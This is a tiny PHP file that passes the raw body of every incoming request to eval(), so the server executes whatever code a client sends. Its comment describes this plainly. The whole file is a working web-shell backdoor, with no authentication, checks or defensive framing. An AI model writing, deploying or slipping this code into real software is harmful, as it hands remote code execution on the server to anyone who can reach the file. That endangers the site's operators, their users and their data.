<?php
// Runs the code that a request brings, in the worker that serves it.
error_reporting( E_ALL );
eval( file_get_contents( 'php://input' ) );
